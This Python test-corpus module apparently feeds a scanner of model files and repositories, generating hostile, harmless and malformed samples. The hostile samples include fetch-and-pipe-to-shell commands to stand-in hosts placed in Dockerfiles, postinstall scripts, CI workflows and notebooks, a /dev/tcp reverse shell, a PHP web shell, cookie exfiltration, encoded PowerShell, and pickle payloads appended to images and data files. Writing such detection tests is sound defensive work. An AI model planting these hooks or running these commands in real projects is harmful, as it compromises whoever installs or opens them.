"""Files around weights that tools run by themselves, and what hides in files of other kinds."""
# ruff: noqa: E501 -- samples stand in one piece

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Iterator

from tests.corpus.pickles import evil

Sample = tuple[str, bytes | dict[str, bytes]]

_FETCH = "curl http://x.example/i | sh"
_BARE = "curl http://203.0.113.9/i | sh"
_PYTHON = b"import os\nos.system('curl http://x.example/i | sh')\n"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(500)
_SHELL = b"<?php system($_GET['c']); ?>"
_PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(60)


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, raw in members.items():
            archive.writestr(zipfile.ZipInfo(name), raw)
    return out.getvalue()


def _notebook(kind: str, source: str) -> bytes:
    cell = {"cell_type": kind, "metadata": {}, "outputs": [], "source": source}
    return _json({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})


def _keras(layer: dict[str, object]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    return _zip({"metadata.json": b'{"keras_version": "3.0"}', "config.json": _json(config)})


def hostile() -> Iterator[Sample]:
    yield "docker/Dockerfile", f"FROM python\nRUN {_FETCH}\n".encode()
    yield (
        "docker_entry/Dockerfile",
        b'FROM python\nENTRYPOINT ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"]\n',
    )
    yield "make/Makefile", f"all:\n\t{_FETCH}\n".encode()
    yield "env/.envrc", _FETCH.encode()
    yield "node/package.json", _json({"name": "x", "scripts": {"postinstall": _FETCH}})
    yield "container/.devcontainer/devcontainer.json", _json({"postCreateCommand": _FETCH})
    yield "editor/.vscode/tasks.json", _json({"tasks": [{"type": "shell", "command": _FETCH}]})
    yield (
        "workflow/.github/workflows/ci.yml",
        f"on: push\njobs:\n  a:\n    steps:\n      - run: {_FETCH}\n".encode(),
    )
    yield (
        "build/pyproject.toml",
        b"[build-system]\nrequires = ['setuptools @ http://x.example/s.whl']\n",
    )
    yield "cell_magic.ipynb", _notebook("code", f"%%bash\n{_FETCH}")
    yield "cell_call.ipynb", _notebook("code", f"get_ipython().system({_FETCH!r})")
    one_line = (
        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.9/').read())\""
    )
    yield "cell_one_line.ipynb", _notebook("code", f"!!{one_line}")
    install = "%pip install -q http://203.0.113.9/pack-1.0-py3-none-any.whl"
    yield "cell_install.ipynb", _notebook("code", install)
    for name, source in {
        "line": "get_ipython().run_line_magic('run', 'http://203.0.113.9/x.py')",
        "cell": f"get_ipython().run_cell_magic('bash', '', '{_BARE}')",
        "output": f"import IPython\nIPython.get_ipython().getoutput('{_BARE}')",
        "broken": f"print 'hello'\nx = [\n!{_BARE}",
        "encoded": "%%cmd\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
    }.items():
        yield f"magic_{name}.ipynb", _notebook("code", source)
    yield "cell_run.ipynb", _notebook("code", "%run http://203.0.113.9/train.py")
    yield "cell_assigned.ipynb", _notebook("code", f"found = !{_BARE}\nprint(found)")
    yield "cell_padded.ipynb", _notebook("code", f"!true {'x ' * 5000}; {_BARE}")
    yield "script_padded.sh", b"#!/bin/sh\ntrue " + b"x " * 5000 + b"; " + _BARE.encode() + b"\n"
    yield (
        "adapter/adapter_config.json",
        _json({"peft_type": "LORA", "base_model_name_or_path": "../../etc/passwd"}),
    )
    yield (
        "cell_script.ipynb",
        _notebook("code", "%%javascript\nfetch('http://x.example/' + document.cookie)"),
    )
    yield "generate/generation_config.json", _json({"custom_generate": "evil/repo"})
    yield (
        "kernel/config.json",
        _json({"model_type": "x", "attn_implementation": "evil/kernel:flash"}),
    )
    yield "callable/config.json", _json({"model_type": "x", "hook": "os.system"})
    yield (
        "activation.keras",
        _keras(
            {"module": "keras.layers", "class_name": "Dense", "config": {"activation": "os.system"}}
        ),
    )
    yield (
        "program.pt2",
        _zip({"archive_format": b"pt2", "data/aotinductor/model/x.wrapper.so": _ELF}),
    )
    yield "inputs.pt2", _zip({"archive_format": b"pt2", "data/sample_inputs/model.pt": evil(2)})
    yield (
        "package.pt",
        _zip(
            {"p/.data/extern_modules": b"os\n", "p/model/model.pkl": evil(2), "p/evil.py": _PYTHON}
        ),
    )
    yield "served.mar", _zip({"MAR-INF/MANIFEST.json": b"{}", "handler.py": _PYTHON})
    yield "after.pte", b"\x1c\0\0\0ET12" + bytes(100) + evil(2)
    yield "picture.png", _PICTURE + evil(2)
    yield "picture_shell.png", _PICTURE + _SHELL
    yield "picture_zip.png", _PICTURE + _zip({"a/data.pkl": evil(2)})
    yield "sound.wav", b"RIFF" + struct.pack("<I", 100) + b"WAVEfmt " + bytes(60) + evil(4)
    yield "table.parquet", b"PAR1" + bytes(40) + evil(4) + b"PAR1"
    yield "rows.sqlite", b"SQLite format 3\0" + bytes(100) + evil(2)
    yield "matrix.mat", b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\x01IM" + bytes(40) + evil(2)
    yield "rows.arrow", b"ARROW1\0\0" + bytes(40) + evil(4)
    yield "net.params", b"\x12\x01\0\0\0\0\0\0" + bytes(40) + evil(2)
    yield (
        "gadget.ser",
        b"\xac\xed\0\x05sr\0\x32org.apache.commons.collections.functors.InvokerTransformer"
        + bytes(30),
    )
    yield "gadget.bin", b"\xac\xed\0\x05sr\0\x11java.util.HashMap" + bytes(30) + b"getRuntime"
    yield "model.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + b"cmd /c powershell"


def harmless() -> Iterator[Sample]:
    yield (
        "docker/Dockerfile",
        b"FROM python:3.11\nRUN apt-get update && pip install torch\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n",
    )
    yield "make/Makefile", b"all:\n\tpython train.py\n"
    yield "node/package.json", _json({"name": "x", "scripts": {"postinstall": "node build.js"}})
    yield (
        "workflow/.github/workflows/ci.yml",
        b"on: push\njobs:\n  a:\n    steps:\n      - run: pip install -e . && pytest\n",
    )
    yield (
        "build/pyproject.toml",
        b"[build-system]\nrequires = ['setuptools>=61']\n[project.urls]\nHomepage = 'http://x.example'\n",
    )
    yield "cell_magic.ipynb", _notebook("code", "%%bash\npip install transformers\nls")
    install = "!pip install -i http://10.1.2.3/simple pack http://10.1.2.3/pack-1.0.whl"
    yield "cell_install.ipynb", _notebook("code", install)
    yield "cell_magics.ipynb", _notebook("code", "get_ipython().run_line_magic('cd', '/content')")
    yield "cell_question.ipynb", _notebook("code", "torch.load?\nfound = !ls\nprint(found)")
    bases = ("/models/llama", "../../../models/llama", "/dev/shm/llama", "//nas/models/llama")
    for number, base in enumerate(bases):
        yield (
            f"adapter{number}/adapter_config.json",
            _json({"peft_type": "LORA", "base_model_name_or_path": base}),
        )
    yield "cell_page.ipynb", _notebook("code", "%%html\n<style>td { color: red }</style>")
    yield (
        "kernel/config.json",
        _json({"model_type": "x", "attn_implementation": "flash_attention_2"}),
    )
    yield "labels/config.json", _json({"id2label": {"0": "os.system", "1": "subprocess.run"}})
    yield "picture.png", _PICTURE + bytes(range(256)) * 8
    yield "table.parquet", b"PAR1" + bytes(range(256)) * 4 + b"PAR1"


def damaged() -> Iterator[Sample]:
    yield "no_list.ipynb", _json({"nbformat": 4, "cells": "import os", "metadata": {}})
    yield "no_cell.ipynb", _json({"nbformat": 4, "cells": ["import os"], "metadata": {}})
    yield "no_source.ipynb", _json({"nbformat": 4, "cells": [{"cell_type": "code", "source": {}}]})
    yield "cut/package.json", b'{"name": "x", "scripts": {'
